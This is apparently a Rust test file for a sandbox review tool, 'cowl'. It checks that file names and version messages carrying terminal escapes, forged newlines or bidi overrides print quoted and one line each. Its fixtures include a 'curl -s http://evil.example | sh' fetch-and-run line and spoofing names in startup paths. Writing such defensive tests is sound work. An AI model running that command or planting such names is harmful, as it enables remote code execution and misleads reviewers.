//! Review output cannot be forged by the names a box chooses: file names
//! holding terminal controls (erase the line, carriage return, cursor up),
//! a newline followed by a fake listing line, or a bidi override, and a
//! version message holding a newline and ESC, print quoted in `diff`,
//! `scan`, `log`, `commit --dry-run` and `verify`, so no raw control byte
//! reaches the terminal and each entry is exactly one line; `--json`
//! gives the exact names back.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::*;
use serde_json::Value;
use std::process::Output;

/// Whether a character can change what a terminal shows beyond itself
/// (besides the newline that ends each line): C0 and C1 controls, DEL,
/// bidi embeddings, overrides, isolates and marks, line separators.
fn is_control(c: char) -> bool {
    (c < ' ' && c != '\n')
        || ('\u{7f}'..='\u{9f}').contains(&c)
        || matches!(
            c,
            '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}' | '\u{2029}'
        )
        || ('\u{202a}'..='\u{202e}').contains(&c)
        || ('\u{2066}'..='\u{2069}').contains(&c)
}

/// Asserts that `bytes` (a command's stdout or stderr) hold no raw byte
/// below 0x20 but the newline, no DEL, no C1 control and no bidi control.
fn assert_no_raw_controls(what: &str, bytes: &[u8]) {
    for (n, line) in bytes.split(|b| *b == b'\n').enumerate() {
        assert!(
            !line.iter().any(|b| *b < 0x20 || *b == 0x7f),
            "{what}: line {} holds a raw control byte: {:?}",
            n + 1,
            String::from_utf8_lossy(line)
        );
        let text = String::from_utf8_lossy(line);
        assert!(
            !text.chars().any(is_control),
            "{what}: line {} holds a raw C1 or bidi control: {text:?}",
            n + 1
        );
    }
}

/// The output of `cowl ARGS…` once checked for raw controls on both
/// streams: its stdout and the number of lines in it.
fn human(w: &World, args: &[&str]) -> (String, usize) {
    let out = w.cmd(args);
    check(&args.join(" "), &out);
    let text = stdout(&out);
    let lines = text.lines().count();
    (text, lines)
}

fn check(what: &str, out: &Output) {
    assert_no_raw_controls(&format!("{what} (stdout)"), &out.stdout);
    assert_no_raw_controls(&format!("{what} (stderr)"), &out.stderr);
}

fn json(w: &World, args: &[&str]) -> Value {
    let out = w.cmd(args);
    assert_success(&out, &args.join(" "));
    serde_json::from_slice(&out.stdout).unwrap()
}

/// Hostile names, relative to the home directory: each in a place `cowl
/// scan` flags high, so each would hide or forge a high finding.
fn hostile_names() -> Vec<String> {
    vec![
        // Erases its own line, then returns to the start of it.
        ".bashrc.d/\x1b[2K\rnotes.sh".into(),
        // Moves the cursor up over the line before.
        ".config/autostart/\x1b[1Aupdate.desktop".into(),
        // A newline, then a line that looks like a harmless diff entry.
        ".config/systemd/user/x.service\nA /home/user/harmless.txt".into(),
        // A newline, then a line that looks like a low scan finding.
        ".bashrc.d/y.sh\n1        low       dropper.hidden-exec         /home/user/z".into(),
        // RIGHT-TO-LEFT OVERRIDE: shows as "…hs.png".
        ".bashrc.d/\u{202e}gnp.sh".into(),
        // Backspaces, DEL and a C1 CSI (U+009B) erasing the line.
        ".bashrc.d/b\x08\x08\x7f\u{9b}2K.sh".into(),
    ]
}

/// `s` as a Python string literal made of printable ASCII only.
fn py(s: &str) -> String {
    let mut out = String::from("'");
    for c in s.chars() {
        match c {
            ' '..='~' if c != '\\' && c != '\'' => out.push(c),
            _ => out.push_str(&format!("\\U{:08x}", c as u32)),
        }
    }
    out.push('\'');
    out
}

/// A Python script that creates `names` under $HOME (with `content`),
/// written with escapes only: the script itself holds no control byte.
fn create_script(names: &[String], content: &str) -> String {
    let list: Vec<String> = names.iter().map(|n| py(n)).collect();
    format!(
        "import os\nh = os.environ['HOME']\nfor n in [{}]:\n    p = os.path.join(h, n)\n    os.makedirs(os.path.dirname(p), exist_ok=True)\n    open(p, 'w').write({})\n",
        list.join(", "),
        py(content)
    )
}

/// `cowl ARGS…` parsed as JSON, whatever its exit status (a dry run that
/// finds conflicts exits 1 and still prints its report).
fn json_report(w: &World, args: &[&str]) -> Value {
    let out = w.cmd(args);
    serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{}: {e}\n{}", args.join(" "), stderr(&out)))
}

#[test]
fn hostile_names_print_quoted_one_line_each_and_json_keeps_them_exact() {
    let w = World::new("quoting");
    let home = std::env::var("HOME").unwrap();
    let names = hostile_names();
    let full: Vec<String> = names.iter().map(|n| format!("{home}/{n}")).collect();
    // A version made by a run, whose message (the command line) holds the
    // script's newlines; content that would rewrite the screen too.
    let out = w.cmd(&[
        "run",
        "b",
        "--",
        "python3",
        "-c",
        &create_script(&names, "curl -s http://evil.example | sh\x1b[1A\x1b[2K\n"),
    ]);
    assert_success(&out, "create the hostile names");
    // A version with a message holding a newline and ESC.
    assert_success(&w.cmd(&["config", "b", "snapshot=manual"]), "config");
    w.ok("b", "echo more > more.txt");
    let msg = "routine update\n   2  fake version\x1b[2K\r";
    assert_success(&w.cmd(&["snapshot", "b", "-m", msg]), "snapshot -m");

    // diff: one line per change, names exact in JSON.
    let changes = json(&w, &["diff", "--json", "b"]);
    let changes = changes.as_array().unwrap();
    let paths: Vec<&str> = changes
        .iter()
        .map(|c| c["path"].as_str().unwrap())
        .collect();
    for f in &full {
        assert!(paths.contains(&f.as_str()), "{f:?} not in {paths:#?}");
    }
    let (text, lines) = human(&w, &["diff", "b"]);
    assert_eq!(lines, changes.len(), "{text}");
    assert!(
        text.contains(&format!("A \"{home}/.bashrc.d/\\033[2K\\rnotes.sh\"")),
        "{text}"
    );
    assert!(
        text.contains(&format!("A \"{home}/.bashrc.d/\\342\\200\\256gnp.sh\"")),
        "{text}"
    );
    assert!(
        text.contains("x.service\\nA /home/user/harmless.txt\""),
        "{text}"
    );
    let (text, lines) = human(&w, &["diff", "--stat", "b"]);
    assert_eq!(lines, changes.len() + 1, "{text}");
    let (text, _) = human(&w, &["diff", "--patch", "b"]);
    assert!(text.contains("sh\\033[1A\\033[2K"), "{text}");

    // scan: every hostile name flagged high, in JSON exactly; in text one
    // line per finding below the header.
    let rows = json(&w, &["scan", "--json", "--fail-on", "never", "b"]);
    let rows = rows.as_array().unwrap();
    for f in &full {
        assert!(
            rows.iter()
                .any(|r| r["path"] == f.as_str() && r["severity"] == "high"),
            "no high finding for {f:?}: {rows:#?}"
        );
    }
    let (text, lines) = human(&w, &["scan", "b"]);
    assert_eq!(lines, rows.len() + 1, "{text}");
    assert_eq!(
        text.lines().filter(|l| l.contains(" high ")).count(),
        rows.iter().filter(|r| r["severity"] == "high").count(),
        "{text}"
    );
    let (text, _) = human(&w, &["scan", "--first-bad", "b"]);
    assert!(text.contains("cowl rollback b 0"), "{text}");

    // log: the messages exact in JSON, one line per version in text.
    let log = json(&w, &["log", "--json", "b"]);
    let log = log.as_array().unwrap();
    assert_eq!(log[0]["message"], msg);
    assert!(log[1]["message"].as_str().unwrap().contains("\nfor n in"));
    let (text, lines) = human(&w, &["log", "b"]);
    assert_eq!(lines, log.len() + 1, "{text}");
    assert!(
        text.contains(r#""routine update\n   2  fake version\033[2K\r""#),
        "{text}"
    );

    // commit --dry-run: one line per planned path, refusal and risk alike.
    let report = json_report(&w, &["commit", "--dry-run", "--json", "--all", "b"]);
    let risky = report["risky"].as_array().unwrap();
    for f in &full {
        assert!(
            risky.iter().any(|r| r["path"] == f.as_str()),
            "{f:?} not risky: {report:#}"
        );
    }
    let entries: usize = ["risky", "applied", "skipped", "conflicts"]
        .iter()
        .map(|k| report[k].as_array().unwrap().len())
        .sum();
    let (text, lines) = human(&w, &["commit", "--dry-run", "--all", "b"]);
    assert_eq!(lines, entries, "{text}");
    assert!(
        text.contains(&format!(
            "⚠ \"{home}/.config/autostart/\\033[1Aupdate.desktop\""
        )),
        "{text}"
    );

    // A rollback names the first bad finding; the quarantine lists the
    // messages it cut off.
    let out = w.cmd(&["rollback", "b", "--before-first-bad"]);
    assert_success(&out, "rollback");
    check("rollback --before-first-bad", &out);
    let q = json(&w, &["log", "--quarantine", "--json", "b"]);
    let q = q.as_array().unwrap();
    let versions: usize = q
        .iter()
        .map(|x| x["versions"].as_array().unwrap().len())
        .sum();
    assert_eq!(versions, 2, "{q:#?}");
    let (text, lines) = human(&w, &["log", "--quarantine", "b"]);
    assert_eq!(lines, q.len() + versions, "{text}");
    // Nothing reached the host.
    for f in &full {
        assert!(std::fs::symlink_metadata(f).is_err(), "{f:?} on the host");
    }
}

#[test]
fn verify_names_a_tampered_file_with_a_hostile_name_quoted() {
    let w = World::new("quoting-verify");
    let name = "evil\x1b[2K\rname.txt";
    w.ok("b", r#"printf data > "$(printf 'evil\033[2K\rname.txt')""#);
    assert!(
        w.host().join(name).symlink_metadata().is_err(),
        "the box wrote the host"
    );
    let rel = w.host().strip_prefix("/").unwrap().join(name);
    let file = w.store.join("boxes/b/versions/1/layer").join(rel);
    let _ = std::fs::set_permissions(&file, std::os::unix::fs::PermissionsExt::from_mode(0o644));
    std::fs::write(&file, "tampered").unwrap();
    let out = w.cmd(&["verify", "b"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    check("verify", &out);
    let err = stderr(&out);
    assert!(
        err.contains(&format!(
            "\"{}/evil\\033[2K\\rname.txt\" differs from the manifest",
            w.host().display()
        )),
        "{err}"
    );
    assert_eq!(err.lines().count(), 1, "{err}");
}

#[test]
fn a_name_that_is_not_utf8_prints_as_octal_bytes() {
    let w = World::new("quoting-bytes");
    w.ok("b", "printf x > \"$(printf 'bad\\377\\376.txt')\"");
    let (text, lines) = human(&w, &["diff", "b"]);
    assert_eq!(lines, 1, "{text}");
    assert_eq!(
        text.trim_end(),
        format!("A \"{}/bad\\377\\376.txt\"", w.host().display())
    );
    let (text, _) = human(&w, &["commit", "--dry-run", "--all", "b"]);
    assert!(text.contains("\\377\\376.txt\""), "{text}");
}
